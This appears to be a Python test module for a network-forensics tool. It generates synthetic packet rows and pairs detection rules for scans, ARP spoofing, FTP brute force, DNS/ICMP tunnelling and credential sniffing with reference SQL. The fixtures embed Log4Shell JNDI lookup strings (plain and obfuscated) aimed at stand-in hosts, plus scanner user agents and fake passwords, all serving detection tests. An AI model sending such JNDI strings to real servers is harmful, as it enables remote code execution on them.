"""Registered queries over packet rows, with their independent SQL."""

from __future__ import annotations

from pyspark.sql import functions as F

from sentrylake.config import PacketConfig
from sentrylake.functions import packet as pk
from sentrylake.operators import pkt_rules as pr
from sentrylake.operators import pkt_stats as ps
from sentrylake.operators.rulebook import with_lists
from sentrylake.schema import PACKET_COLUMNS, conform
from sentrylake.workloads.base import DUCK, SPARK, Case, Dialect, from_sql
from sentrylake.workloads.net import best_run, whole

DAY = 86400
CFG = PacketConfig(vertical_scan_window_seconds=6 * DAY, vertical_scan_min_ports=3, horizontal_scan_window_seconds=4 * DAY, horizontal_scan_min_hosts=3,
                   udp_scan_window_seconds=10 * DAY, udp_scan_min_unreachables=3, arp_conflict_window_seconds=3 * DAY, arp_flood_window_seconds=6 * DAY,
                   arp_flood_min_targets=3, icmp_tunnel_window_seconds=12 * DAY, icmp_tunnel_min_packets=3, dns_tunnel_window_seconds=10 * DAY, dns_tunnel_min_queries=3,
                   bruteforce_window_seconds=10 * DAY, bruteforce_min_failures=2, spray_min_targets=3)
# stand-in column -> dissected field
FIELDS = {
    "f_syn": "tcp.flags.syn", "f_ack": "tcp.flags.ack", "f_win": "tcp.window_size", "f_ttl": "ip.ttl", "f_it": "icmp.type", "f_ic": "icmp.code",
    "f_port": "icmp.orig.udp.dstport", "f_len": "data.len", "f_op": "arp.opcode", "f_sip": "arp.src.proto_ipv4", "f_smac": "arp.src.hw_mac", "f_tip": "arp.dst.proto_ipv4",
    "f_code": "ftp.response.code", "f_cmd": "ftp.request.command", "f_arg": "ftp.request.arg", "f_dh": "dhcp.option.dhcp", "f_dm": "dhcp.hw.mac_addr",
    "f_yi": "dhcp.yiaddr", "f_hn": "dhcp.option.hostname", "f_msg": "dhcp.option.message", "f_req": "http.request", "f_resp": "http.response", "f_met": "http.request.method",
    "f_uri": "http.request.uri", "f_host": "http.host", "f_ua": "http.user_agent", "f_rc": "http.response.code", "f_auth": "http.authorization", "f_body": "http.file_data",
    "f_cd": "http.content_disposition", "f_ct": "http.content_type", "f_tls": "tls.handshake.type", "f_sni": "tls.handshake.extensions_server_name", "f_q": "dns.qry.name",
    "f_qr": "dns.flags.response", "f_qt": "dns.qry.type", "f_qn": "dns.qry.type.name", "f_rcode": "dns.rcode", "f_a": "dns.a_all", "f_nb": "nbns.name", "f_no": "nbns.opcode",
    "f_na": "nbns.addr", "f_cn": "kerberos.CNameString",
}


def view(d: Dialect) -> str:
    k = d.k()
    base = f"""SELECT event_id, {d.us('ts')} AS us, user_id AS u, {k} AS k, {k} % 20 AS m,
  {d.div(k, '20')} * 5 + CASE event_type WHEN 'view' THEN 0 WHEN 'click' THEN 1 WHEN 'error' THEN 2 WHEN 'signup' THEN 3 ELSE 4 END AS v FROM {{events}}"""
    return f"""
SELECT event_id, event_id AS frame_number, us AS ts_us, 'cap' AS capture_id, 60 + k AS length,
  CASE WHEN m <= 8 OR m >= 18 THEN 'tcp' WHEN m <= 10 THEN 'icmp' WHEN m <= 12 THEN 'arp' WHEN m <= 16 THEN 'udp' END AS proto,
  CASE WHEN m IN (11, 12) THEN NULL ELSE '10.1.' || CAST({d.div('u', '250')} AS STRING) || '.' || CAST(u % 250 AS STRING) END AS src_ip,
  CASE WHEN m IN (11, 12) THEN NULL ELSE '10.2.0.' || CAST(CASE WHEN m IN (0, 1, 2) THEN v % 3 ELSE (u + v) % 5 END AS STRING) END AS dst_ip,
  CASE WHEN v % 9 = 0 THEN 'ff:ff:ff:ff:ff:ff' ELSE '02:00:00:00:00:' || substr(md5(CAST(u % 30 AS STRING)), 1, 2) END AS src_mac,
  '02:00:00:00:00:' || substr(md5(CAST(v % 7 AS STRING)), 1, 2) AS dst_mac,
  CASE WHEN m <= 8 OR m BETWEEN 13 AND 16 OR m >= 18 THEN 1000 + v END AS src_port, CASE WHEN m <= 8 OR m BETWEEN 13 AND 16 OR m >= 18 THEN CASE WHEN v % 4 = 0 THEN 443 ELSE 20 + v % 8 END END AS dst_port,
  CASE WHEN m <= 3 THEN '1' WHEN m <= 8 THEN '0' END AS f_syn, CASE WHEN m = 3 THEN '1' WHEN m <= 8 THEN '0' END AS f_ack,
  CASE WHEN m <= 2 THEN CASE v % 3 WHEN 0 THEN '64240' WHEN 1 THEN '512' ELSE '1025' END END AS f_win, CASE WHEN m <= 2 AND v % 5 <> 1 THEN CAST(32 + 40 * (u % 5) AS STRING) END AS f_ttl,
  CASE WHEN m = 9 THEN '3' WHEN m = 10 THEN '8' END AS f_it, CASE WHEN m = 9 THEN '3' END AS f_ic, CASE WHEN m = 9 THEN CAST(v % 6 AS STRING) END AS f_port, CASE WHEN m = 10 THEN CAST(50 + v * 9 AS STRING) END AS f_len,
  CASE WHEN m = 11 THEN '1' WHEN m = 12 THEN '2' END AS f_op, CASE WHEN m IN (11, 12) THEN '10.3.0.' || CAST(u % 40 AS STRING) END AS f_sip,
  CASE WHEN m IN (11, 12) THEN '02:00:00:00:00:' || substr(md5(CAST((u + v % 2) % 11 AS STRING)), 1, 2) END AS f_smac, CASE WHEN m = 11 THEN '10.3.0.' || CAST(v AS STRING) END AS f_tip,
  CASE WHEN m = 4 THEN CASE WHEN v % 2 = 0 THEN '530' ELSE '230' END END AS f_code, CASE WHEN m IN (5, 6) THEN CASE WHEN m = 5 THEN 'USER' ELSE 'PASS' END END AS f_cmd,
  CASE WHEN m = 5 THEN 'usr' || CAST(v AS STRING) WHEN m = 6 THEN 'pw' || CAST(v % 3 AS STRING) END AS f_arg,
  CASE WHEN m = 13 THEN CASE v % 5 WHEN 0 THEN '1' WHEN 1 THEN '3' WHEN 2 THEN '5' WHEN 3 THEN '6' ELSE '3' END END AS f_dh,
  CASE WHEN m = 13 THEN '02:00:00:00:01:' || substr(md5(CAST(v * 7 + u % 3 AS STRING)), 1, 2) END AS f_dm, CASE WHEN m = 13 AND v % 5 = 2 THEN '10.4.0.' || CAST(v AS STRING) END AS f_yi,
  CASE WHEN m = 13 AND v % 2 = 0 THEN 'pc' || CAST(v AS STRING) END AS f_hn, CASE WHEN m = 13 AND v % 5 = 3 AND u % 2 = 0 THEN 'no lease' END AS f_msg,
  CASE WHEN m = 7 THEN '1' END AS f_req, CASE WHEN m = 8 THEN '1' END AS f_resp, CASE WHEN m = 7 THEN CASE WHEN v % 2 = 0 THEN 'GET' ELSE 'POST' END END AS f_met,
  CASE WHEN m = 7 THEN CASE WHEN v = 3 THEN '/?x=$' || chr(123) || 'jndi:ldap://e.example/a' || chr(125) ELSE '/p' || CAST(v AS STRING) END END AS f_uri,
  CASE WHEN m = 7 THEN 'h' || CAST(u % 60 AS STRING) || '.example' END AS f_host,
  CASE WHEN m = 7 THEN CASE v WHEN 1 THEN 'sqlmap/1.0' WHEN 2 THEN 'Nikto nmap' WHEN 4 THEN '$' || chr(123) || '$' || chr(123) || 'lower:j' || chr(125) || 'ndi:rmi://x' || chr(125) ELSE 'Mozilla/' || CAST(v % 4 AS STRING) END END AS f_ua,
  CASE WHEN m = 8 THEN CASE WHEN v % 3 = 0 THEN '404' ELSE '200' END END AS f_rc, CASE WHEN m = 7 AND v = 5 THEN 'Basic dXNlcjpzZWNyZXQ=' END AS f_auth,
  CASE WHEN m = 7 AND v = 7 THEN 'Login=bob&x=1&Password=hunter' || CAST(u % 5 AS STRING) WHEN m = 7 AND v = 9 THEN 'a=1&pwd=zz' END AS f_body,
  CASE WHEN m = 8 AND v % 4 = 0 THEN 'attachment; filename="r' || CAST(v AS STRING) || '.zip"' END AS f_cd, CASE WHEN m = 8 THEN CASE v % 3 WHEN 0 THEN 'text/html' WHEN 1 THEN 'application/pdf' ELSE 'text/plain' END END AS f_ct,
  CASE WHEN m >= 18 THEN CAST(1 + v % 3 AS STRING) END AS f_tls, CASE WHEN m >= 18 AND v % 3 = 0 THEN 's' || CAST(u % 70 AS STRING) || '.example' END AS f_sni,
  CASE WHEN m IN (14, 15) THEN CASE v % 3 WHEN 0 THEN md5(CAST(event_id AS STRING)) || '.t.example' WHEN 1 THEN 'www.example' ELSE 'x.akamai.net' END END AS f_q,
  CASE WHEN m = 15 THEN '1' WHEN m = 14 THEN '0' END AS f_qr, CASE WHEN m IN (14, 15) THEN CASE WHEN v % 7 = 0 THEN '16' ELSE '1' END END AS f_qt,
  CASE WHEN m IN (14, 15) AND v % 6 <> 5 THEN CASE WHEN v % 7 = 0 THEN 'TXT' ELSE 'A' END END AS f_qn, CASE WHEN m = 15 AND v % 4 = 1 THEN '3' END AS f_rcode,
  CASE WHEN m = 15 THEN '192.0.2.' || CAST(v AS STRING) || CASE WHEN u % 2 = 0 THEN ',192.0.2.200' ELSE '' END END AS f_a,
  CASE WHEN m = 16 AND v % 2 = 0 THEN 'NB' || CAST(v AS STRING) END AS f_nb, CASE WHEN m = 16 AND v % 2 = 0 THEN CASE v % 6 WHEN 0 THEN '5' WHEN 2 THEN '0' ELSE '9' END END AS f_no,
  CASE WHEN m = 16 AND v % 4 = 0 THEN '10.5.0.' || CAST(v AS STRING) END AS f_na, CASE WHEN m = 16 AND v % 2 = 1 THEN 'user' || CAST(v AS STRING) || '/HOST' || CAST(u % 9 AS STRING) || '$' END AS f_cn
FROM ({base}) AS b"""


def events(spark, sf):
    df = from_sql(spark, sf, view(SPARK))
    df = df.withColumn("fields", F.map_filter(F.create_map(*[x for c, f in FIELDS.items() for x in (F.lit(f), F.col(c))]), lambda k, v: v.isNotNull()))
    df = conform(df.drop(*FIELDS), PACKET_COLUMNS)
    return df.select(F.explode(F.array(F.struct(*df.columns))).alias("r")).select("r.*")


W = f"WITH ev AS ({view(DUCK)})"
TIMES = "min(ts_us) AS first_us, max(ts_us) AS last_us"
SYN = "f_syn = '1' AND f_ack = '0'"
ARP = "f_op = '2'"


def q(rule, *lists):
    """A rule over the packets; its findings have the named lists whole."""
    if not lists:
        return lambda spark, sf: rule(events(spark, sf), CFG)
    return lambda spark, sf: with_lists(rule.found(events(spark, sf), CFG), *lists)


def st(fn, *args):
    return lambda spark, sf: fn(events(spark, sf), *args)


MIXED = f""",
a AS (SELECT f_sip AS ip, f_smac AS mac, ts_us, event_id, row_number() OVER (PARTITION BY f_sip ORDER BY ts_us, event_id) AS rn FROM ev WHERE {ARP}),
mw AS (SELECT x.ip, x.rn, count(*) AS n, count(DISTINCT y.mac) AS k, min(y.rn) AS lo FROM a x JOIN a y ON x.ip = y.ip AND y.rn <= x.rn AND y.ts_us >= x.ts_us - {3 * DAY} * CAST(1000000 AS BIGINT) GROUP BY 1, 2),
mb AS (SELECT * FROM mw WHERE k > 1 QUALIFY row_number() OVER (PARTITION BY ip ORDER BY n DESC, rn) = 1),
mh AS (SELECT a.* FROM a JOIN mb ON a.ip = mb.ip AND a.rn BETWEEN mb.lo AND mb.rn)"""
LOGINS = """,
lg AS (SELECT *, lag(f_cmd) OVER s AS pc, lag(f_arg) OVER s AS pa FROM ev WHERE f_cmd IN ('USER', 'PASS') WINDOW s AS (PARTITION BY src_ip, dst_ip ORDER BY ts_us, event_id)),
ls AS (SELECT *, CASE WHEN pc = 'USER' THEN pa END AS login FROM lg WHERE f_cmd = 'PASS')"""

CASES = [
    Case("pkt_scan_vertical", q(pr.pkt_scan_vertical, "ports_probed"), "src_ip:s dst_ip:s distinct_ports:i packets:i scan_type:s severity:s ports_probed:l first_us:i last_us:i",
         W + best_run("ev", "src_ip, dst_ip", 6 * DAY, "count(*)", "1", SYN) + f"""
SELECT src_ip, dst_ip, count(DISTINCT dst_port) AS distinct_ports, count(*) AS packets, CASE WHEN 2 * count(*) FILTER (WHERE CAST(f_win AS INT) > 1024) >= count(*) THEN 'connect' ELSE 'syn' END AS scan_type,
  CASE WHEN count(DISTINCT dst_port) >= 6 THEN 'high' ELSE 'medium' END AS severity, {whole('dst_port')} AS ports_probed, {TIMES} FROM hit GROUP BY 1, 2 HAVING count(DISTINCT dst_port) >= 3"""),
    Case("pkt_scan_horizontal", q(pr.pkt_scan_horizontal, "hosts_probed"), "src_ip:s dst_port:i distinct_hosts:i packets:i hosts_probed:l first_us:i last_us:i",
         W + best_run("ev", "src_ip, dst_port", 4 * DAY, "count(*)", "1", SYN) + f"""
SELECT src_ip, dst_port, count(DISTINCT dst_ip) AS distinct_hosts, count(*) AS packets, {whole('dst_ip')} AS hosts_probed, {TIMES} FROM hit GROUP BY 1, 2 HAVING count(DISTINCT dst_ip) >= 3"""),
    Case("pkt_scan_udp", q(pr.pkt_scan_udp, "closed_ports"), "src_ip:s dst_ip:s distinct_ports:i packets:i closed_ports:l first_us:i last_us:i",
         W + best_run("ev", "dst_ip, src_ip", 10 * DAY, "count(*)", "1", "f_port IS NOT NULL") + f"""
SELECT dst_ip AS src_ip, src_ip AS dst_ip, count(DISTINCT f_port) AS distinct_ports, count(*) AS packets, {whole('f_port')} AS closed_ports, {TIMES} FROM hit GROUP BY hit.dst_ip, hit.src_ip HAVING count(DISTINCT f_port) >= 3"""),
    Case("pkt_arp_spoof", q(pr.pkt_arp_spoof, "claiming_macs"), "entity:s mac_count:i claiming_macs:l replies:i first_us:i last_us:i",
         W + MIXED + f" SELECT ip AS entity, count(DISTINCT mac) AS mac_count, list_sort(list(DISTINCT mac)) AS claiming_macs, count(*) AS replies, {TIMES} FROM mh GROUP BY ip"),
    Case("pkt_arp_relay", q(pr.pkt_arp_relay, "victims"), "entity:s packets:i victim_count:i victims:l first_us:i last_us:i",
         W + MIXED + f" SELECT dst_mac AS entity, count(*) AS packets, count(DISTINCT src_ip) AS victim_count, {whole('src_ip')} AS victims, {TIMES} FROM ev WHERE src_ip IS NOT NULL AND dst_mac IN (SELECT mac FROM mh) GROUP BY 1 HAVING count(*) >= 3"),
    Case("pkt_arp_flood", q(pr.pkt_arp_flood, "targets_probed"), "entity:s target_count:i packets:i targets_probed:l first_us:i last_us:i",
         W + best_run("ev", "f_smac", 6 * DAY, "count(*)", "1", "f_op = '1'") + f" SELECT f_smac AS entity, count(DISTINCT f_tip) AS target_count, count(*) AS packets, {whole('f_tip')} AS targets_probed, {TIMES} FROM hit GROUP BY 1 HAVING count(DISTINCT f_tip) >= 3"),
    Case("pkt_ftp_brute", q(pr.pkt_ftp_brute), "src_ip:s dst_ip:s failure_count:i last_us:i",
         W + best_run("ev", "dst_ip, src_ip", 10 * DAY, "count(*)", "2", "f_code = '530'") + " SELECT dst_ip AS src_ip, src_ip AS dst_ip, count(*) AS failure_count, max(ts_us) AS last_us FROM hit GROUP BY hit.dst_ip, hit.src_ip"),
    Case("pkt_ftp_spray", q(pr.pkt_ftp_spray, "usernames_tried"), "dst_ip:s password:s distinct_users:i attempts:i usernames_tried:l first_us:i last_us:i",
         W + LOGINS + f" SELECT dst_ip, f_arg AS password, count(DISTINCT login) AS distinct_users, count(*) AS attempts, {whole('login')} AS usernames_tried, {TIMES} FROM ls WHERE login IS NOT NULL GROUP BY 1, 2 HAVING count(DISTINCT login) >= 3"),
    Case("pkt_dhcp_starvation", q(pr.pkt_dhcp_starvation), "src_ip:s distinct_client_macs:i",
         W + " SELECT src_ip, count(DISTINCT f_dm) AS distinct_client_macs FROM ev WHERE f_dh IN ('1', '3') GROUP BY 1 HAVING count(DISTINCT f_dm) >= 10"),
    Case("pkt_dhcp_nak", q(pr.pkt_dhcp_nak, "reasons"), "nak_count:i reasons:l reason_count:i first_us:i last_us:i",
         W + f" SELECT sum(n) AS nak_count, list_sort(list(r || '=' || n)) AS reasons, count(*) AS reason_count, min(f) AS first_us, max(l) AS last_us FROM (SELECT coalesce(f_msg, 'unspecified') AS r, count(*) AS n, min(ts_us) AS f, max(ts_us) AS l FROM ev WHERE f_dh = '6' GROUP BY 1)"),
    Case("pkt_scanner_agent", q(pr.pkt_scanner_agent, "paths"), "src_ip:s dst_ip:s tool:s requests:i user_agent:s paths:l path_count:i",
         W + f" SELECT src_ip, dst_ip, CASE WHEN f_ua LIKE 'sqlmap%' THEN 'sqlmap' ELSE 'nmap' END AS tool, count(*) AS requests, min(f_ua) AS user_agent, {whole('f_uri')} AS paths, count(DISTINCT f_uri) AS path_count FROM ev WHERE f_ua LIKE 'sqlmap%' OR f_ua LIKE 'Nikto%' GROUP BY 1, 2, 3"),
    Case("pkt_agent_rotation", q(pr.pkt_agent_rotation, "user_agents"), "src_ip:s agent_count:i user_agents:l",
         W + f" SELECT src_ip, count(DISTINCT f_ua) AS agent_count, {whole('f_ua')} AS user_agents FROM ev GROUP BY 1 HAVING count(DISTINCT f_ua) >= 3"),
    Case("pkt_log4j", q(pr.pkt_log4j), "src_ip:s dst_ip:s requests:i field:s payload:s deobfuscated:s",
         W + """ SELECT src_ip, dst_ip, count(*) AS requests, arg_min(CASE WHEN contains(f_ua, 'lower') THEN 'user_agent' ELSE 'uri' END, event_id) AS field,
  arg_min(CASE WHEN contains(f_ua, 'lower') THEN f_ua ELSE f_uri END, event_id) AS payload, CASE WHEN contains(payload, 'lower') THEN replace(payload, '$' || chr(123) || 'lower:j' || chr(125), 'j') END AS deobfuscated
FROM ev WHERE contains(f_ua, 'lower') OR contains(f_uri, 'jndi') GROUP BY 1, 2"""),
    Case("pkt_tls_port", q(pr.pkt_tls_port), "src_ip:s dst_ip:s dst_port:i hellos:i sni:s", W + " SELECT src_ip, dst_ip, dst_port, count(*) AS hellos, arg_min(f_sni, event_id) AS sni FROM ev WHERE f_tls = '1' AND dst_port <> 443 GROUP BY 1, 2, 3"),
    Case("pkt_icmp_tunnel", q(pr.pkt_icmp_tunnel), "src_ip:s dst_ip:s packet_count:i min_size:i max_size:i first_us:i last_us:i",
         W + best_run("ev", "src_ip, dst_ip", 12 * DAY, "count(*)", "3", "f_it = '8' AND CAST(f_len AS INT) > 64") + f" SELECT src_ip, dst_ip, count(*) AS packet_count, min(CAST(f_len AS INT)) AS min_size, max(CAST(f_len AS INT)) AS max_size, {TIMES} FROM hit GROUP BY 1, 2"),
    Case("pkt_dns_tunnel", q(pr.pkt_dns_tunnel), "src_ip:s query_count:i avg_query_len:d",
         W + best_run("ev", "src_ip", 10 * DAY, "count(*)", "1", "f_q IS NOT NULL AND f_qr = '0' AND f_q NOT LIKE '%akamai.net'") + " SELECT src_ip, count(*) AS query_count, round(avg(length(f_q)), 1) AS avg_query_len FROM hit WHERE f_q LIKE '%.t.example' GROUP BY 1 HAVING count(*) >= 3"),
    Case("pkt_protocols", st(ps.protocols), "protocol:s packets:i", W + """ SELECT protocol, count(*) AS packets FROM (SELECT unnest([coalesce(proto, 'ip (unrecognised transport)'), CASE WHEN proto IS NOT NULL AND (f_req = '1' OR f_resp = '1') THEN 'tcp.http' END,
  CASE WHEN f_cmd IS NOT NULL OR f_code IS NOT NULL THEN 'tcp.ftp' END, CASE WHEN f_tls IS NOT NULL THEN 'tcp.tls' END, CASE WHEN f_q IS NOT NULL THEN 'udp.dns' END, CASE WHEN f_dh IS NOT NULL THEN 'udp.dhcp' END, CASE WHEN f_nb IS NOT NULL THEN 'udp.nbns' END]) AS protocol FROM ev) WHERE protocol IS NOT NULL GROUP BY 1"""),
    Case("pkt_endpoints", st(lambda p: ps.largest(ps.endpoints(p), "bytes", 25, "address")), "address:s packets:i bytes:i",
         W + " SELECT address, count(*) AS packets, sum(length) AS bytes FROM (SELECT unnest([src_ip, dst_ip]) AS address, length FROM ev) WHERE address IS NOT NULL GROUP BY 1 ORDER BY 3 DESC, 1 LIMIT 25"),
    Case("pkt_dns_stats", st(ps.dns_stats), "kind:s key:s n:i", W + """, d AS (SELECT * FROM ev WHERE f_q IS NOT NULL)
SELECT 'total' AS kind, 'queries' AS key, count(*) FILTER (WHERE f_qr = '0') AS n FROM d UNION ALL SELECT 'total', 'responses', count(*) FILTER (WHERE f_qr = '1') FROM d UNION ALL SELECT 'total', 'nxdomain', count(*) FILTER (WHERE f_rcode = '3') FROM d
UNION ALL SELECT 'total', 'unique_query_names', count(DISTINCT f_q) FILTER (WHERE f_qr = '0') FROM d UNION ALL SELECT * FROM (SELECT 'name', f_q, count(*) FROM d WHERE f_qr = '0' GROUP BY 2 ORDER BY 3 DESC, 2 LIMIT 10)
UNION ALL SELECT 'qtype', coalesce(f_qn, '?'), count(*) FROM d GROUP BY 2"""),
    Case("pkt_http_stats", st(ps.http_stats), "kind:s key:s n:i", W + """ SELECT 'total' AS kind, 'requests' AS key, count(f_req) AS n FROM ev UNION ALL SELECT 'total', 'responses', count(f_resp) FROM ev UNION ALL SELECT 'method', f_met, count(*) FROM ev WHERE f_met IS NOT NULL GROUP BY 2
UNION ALL SELECT 'status', f_rc, count(*) FROM ev WHERE f_rc IS NOT NULL GROUP BY 2 UNION ALL SELECT * FROM (SELECT 'host', f_host, count(*) FROM ev WHERE f_host IS NOT NULL GROUP BY 2 ORDER BY 3 DESC, 2 LIMIT 10)
UNION ALL SELECT * FROM (SELECT 'user_agent', f_ua, count(*) FROM ev WHERE f_ua IS NOT NULL GROUP BY 2 ORDER BY 3 DESC, 2 LIMIT 10)"""),
    Case("pkt_summary", st(ps.capture_summary), "packet_count:i total_bytes:i duration_seconds:d", W + " SELECT count(*) AS packet_count, sum(length) AS total_bytes, round((max(ts_us) - min(ts_us)) / 1e6, 3) AS duration_seconds FROM ev"),
    Case("pkt_conversations", st(ps.conversations), "proto:s a_addr:s a_port:i b_addr:s b_port:i packets:i bytes:i first_us:i last_us:i",
         W + f" SELECT proto, src_ip AS a_addr, src_port AS a_port, dst_ip AS b_addr, dst_port AS b_port, count(*) AS packets, sum(length) AS bytes, {TIMES} FROM ev WHERE proto IN ('tcp', 'udp') GROUP BY 1, 2, 3, 4, 5"),
    Case("pkt_top_conversations", lambda s, d: ps.top_conversations(ps.conversations(events(s, d))), "proto:s a_addr:s a_port:i b_addr:s b_port:i packets:i bytes:i first_us:i last_us:i",
         W + f""" SELECT proto, src_ip AS a_addr, src_port AS a_port, dst_ip AS b_addr, dst_port AS b_port, count(*) AS packets, sum(length) AS bytes, {TIMES} FROM ev WHERE proto IN ('tcp', 'udp') GROUP BY 1, 2, 3, 4, 5
ORDER BY bytes DESC, last_us - first_us DESC, 1, 2, 3, 4, 5 LIMIT 15"""),
    Case("pkt_top_hosts", lambda s, d: ps.top_hosts(ps.hosts(events(s, d))), "ip:s packets_sent:i bytes_sent:i packets_recv:i bytes_recv:i bytes:i", W + """,
b AS (SELECT src_ip AS ip, 1 AS s, length AS sb, 0 AS r, 0 AS rb FROM ev WHERE src_ip IS NOT NULL UNION ALL SELECT dst_ip, 0, 0, 1, length FROM ev WHERE dst_ip IS NOT NULL)
SELECT ip, sum(s) AS packets_sent, sum(sb) AS bytes_sent, sum(r) AS packets_recv, sum(rb) AS bytes_recv, sum(sb) + sum(rb) AS bytes FROM b GROUP BY ip ORDER BY bytes DESC, ip LIMIT 25"""),
    Case("pkt_resolved", st(ps.resolved), "address:s names:l", W + " SELECT address, list_sort(list(DISTINCT f_q)) AS names FROM (SELECT f_q, unnest(string_split(f_a, ',')) AS address FROM ev WHERE f_q IS NOT NULL AND f_qt = '1') GROUP BY 1"),
    Case("pkt_hosts", st(ps.hosts), "ip:s packets_sent:i bytes_sent:i packets_recv:i bytes_recv:i os_guess:s os_confidence:s macs:l hostnames:l open_ports:l first_us:i last_us:i", W + """,
le AS (SELECT f_dm AS mac, arg_max(f_yi, event_id) AS ip FROM ev WHERE f_dh = '5' GROUP BY 1), cl AS (SELECT f_dm AS mac, arg_max(f_hn, event_id) AS name FROM ev WHERE f_hn IS NOT NULL GROUP BY 1), lc AS (SELECT * FROM le JOIN cl USING (mac)),
nb AS (SELECT f_nb AS name, CASE WHEN f_no IN ('5', '9') THEN coalesce(f_na, src_ip) END AS ip FROM ev WHERE f_nb IS NOT NULL),
fa AS (SELECT src_ip AS ip, ts_us, 1 AS s, length AS sb, 0 AS r, 0 AS rb FROM ev WHERE src_ip IS NOT NULL UNION ALL SELECT dst_ip, ts_us, 0, 0, 1, length FROM ev WHERE dst_ip IS NOT NULL UNION ALL SELECT f_sip, ts_us, 0, 0, 0, 0 FROM ev WHERE f_sip IS NOT NULL
  UNION ALL SELECT ip, NULL, 0, 0, 0, 0 FROM lc UNION ALL SELECT ip, NULL, 0, 0, 0, 0 FROM nb WHERE ip IS NOT NULL),
mac AS (SELECT f_sip AS ip, f_smac AS v FROM ev WHERE f_sip IS NOT NULL UNION SELECT src_ip, src_mac FROM ev WHERE src_ip IS NOT NULL AND src_mac NOT LIKE 'ff%' UNION SELECT dst_ip, dst_mac FROM ev WHERE dst_ip IS NOT NULL UNION SELECT ip, mac FROM lc),
nam AS (SELECT src_ip AS ip, f_hn AS v FROM ev WHERE f_hn IS NOT NULL UNION SELECT ip, name FROM lc UNION SELECT ip, name FROM nb WHERE ip IS NOT NULL UNION SELECT dst_ip, f_host FROM ev WHERE f_host IS NOT NULL),
pt AS (SELECT DISTINCT src_ip AS ip, src_port AS v FROM ev WHERE f_syn = '1' AND f_ack = '1'),
os AS (SELECT src_ip AS ip, arg_min(f_ttl, event_id) AS ttl, arg_min(f_win, event_id) AS win FROM ev WHERE f_syn = '1' AND f_ack = '0' AND f_ttl IS NOT NULL GROUP BY 1),
b AS (SELECT ip, sum(s) AS packets_sent, sum(sb) AS bytes_sent, sum(r) AS packets_recv, sum(rb) AS bytes_recv, min(ts_us) AS first_us, max(ts_us) AS last_us FROM fa GROUP BY 1),
ma AS (SELECT ip, list_sort(list(v)) AS l FROM mac GROUP BY 1), na AS (SELECT ip, list_sort(list(v)) AS l FROM nam GROUP BY 1), po AS (SELECT ip, list_sort(list(v)) AS l FROM pt GROUP BY 1),
z AS (SELECT ip FROM ma UNION SELECT ip FROM na UNION SELECT ip FROM po)
SELECT b.*, CASE WHEN ttl IS NULL THEN NULL ELSE CASE WHEN CAST(ttl AS INT) <= 34 THEN 'Windows (old, TTL~32)' WHEN CAST(ttl AS INT) <= 66 THEN 'Linux / Unix / macOS (TTL~64)' WHEN CAST(ttl AS INT) <= 130 THEN 'Windows (TTL~128)' ELSE 'Network device / Solaris / some Unix (TTL~255)' END
  || CASE WHEN win = '64240' THEN ' -- consistent with Linux' ELSE '' END END AS os_guess, CASE WHEN ttl IS NULL THEN NULL WHEN win = '64240' THEN 'medium' ELSE 'low' END AS os_confidence,
  CASE WHEN z.ip IS NOT NULL THEN coalesce(ma.l, []) END AS macs, CASE WHEN z.ip IS NOT NULL THEN coalesce(na.l, []) END AS hostnames, CASE WHEN z.ip IS NOT NULL THEN coalesce(po.l, []) END AS open_ports
FROM b LEFT JOIN ma USING (ip) LEFT JOIN na USING (ip) LEFT JOIN po USING (ip) LEFT JOIN os USING (ip) LEFT JOIN z USING (ip)"""),
    Case("pkt_identity", st(ps.identity), "kind:s key:s name:s", W + """, le AS (SELECT f_dm AS mac, arg_max(f_yi, event_id) AS ip FROM ev WHERE f_dh = '5' GROUP BY 1)
SELECT 'dhcp' AS kind, src_ip AS key, f_hn AS name FROM ev WHERE f_hn IS NOT NULL UNION SELECT 'nbns', coalesce(f_na, src_ip), f_nb FROM ev WHERE f_no IN ('5', '9')
UNION SELECT 'kerberos_user', NULL, string_split(f_cn, '/')[1] FROM ev WHERE f_cn IS NOT NULL UNION SELECT 'kerberos_host', NULL, rtrim(string_split(f_cn, '/')[2], '$') FROM ev WHERE f_cn IS NOT NULL"""),
    Case("pkt_credentials", st(ps.credentials), "protocol:s frame_number:i src_ip:s dst_ip:s username:s secret:s masked:s", W + LOGINS + """,
c AS (SELECT 'ftp' AS protocol, frame_number, src_ip, dst_ip, login AS username, f_arg AS secret FROM ls UNION ALL SELECT 'http-basic', frame_number, src_ip, dst_ip, 'user', 'secret' FROM ev WHERE f_auth IS NOT NULL
  UNION ALL SELECT 'http-form', frame_number, src_ip, dst_ip, CASE WHEN f_body LIKE 'Login%' THEN 'bob' END, split_part(f_body, '=', -1) FROM ev WHERE regexp_matches(f_body, 'password=|passwd=|pwd='))
SELECT *, CASE WHEN length(secret) <= 2 THEN repeat('*', length(secret)) ELSE left(secret, 1) || repeat('*', length(secret) - 1) END AS masked FROM c"""),
    Case("pkt_files", st(ps.files), "frame_number:i filename:s content_type:s src_ip:s dst_ip:s", W + """ SELECT frame_number, CASE WHEN f_cd IS NOT NULL THEN split_part(f_cd, '"', 2) ELSE '(unnamed).pdf' END AS filename, f_ct AS content_type, dst_ip AS src_ip, src_ip AS dst_ip
FROM ev WHERE f_resp = '1' AND (f_cd IS NOT NULL OR f_ct = 'application/pdf')"""),
    Case("pkt_tls_hellos", st(ps.tls_hellos), "frame_number:i type:s src_ip:s dst_ip:s dst_port:i sni:s", W + " SELECT frame_number, CASE f_tls WHEN '1' THEN 'ClientHello' WHEN '2' THEN 'ServerHello' ELSE 'type 3' END AS type, src_ip, dst_ip, dst_port, f_sni AS sni FROM ev WHERE f_tls IS NOT NULL"),
    Case("pkt_sni_counts", st(ps.sni_counts), "sni:s n:i", W + " SELECT f_sni AS sni, count(*) AS n FROM ev WHERE f_sni IS NOT NULL GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 30"),
    Case("pkt_keyword_hits", st(ps.keyword_hits, ["SQLMAP", "example", "pc1"]), "frame_number:i field:s keyword:s context:s", W + """, t AS (SELECT frame_number, unnest([{'f': 'http.request.uri', 'v': f_uri}, {'f': 'http.host', 'v': f_host}, {'f': 'http.user_agent', 'v': f_ua}, {'f': 'http.file_data', 'v': f_body},
  {'f': 'ftp.request.arg', 'v': f_arg}, {'f': 'dns.qry.name', 'v': f_q}, {'f': 'kerberos.CNameString', 'v': f_cn}, {'f': 'nbns.name', 'v': f_nb}, {'f': 'dhcp.option.hostname', 'v': f_hn}]) AS x FROM ev), k AS (SELECT unnest(['SQLMAP', 'example', 'pc1']) AS keyword)
SELECT frame_number, x.f AS field, keyword, left(x.v, 200) AS context FROM t JOIN k ON contains(lower(x.v), lower(keyword))"""),
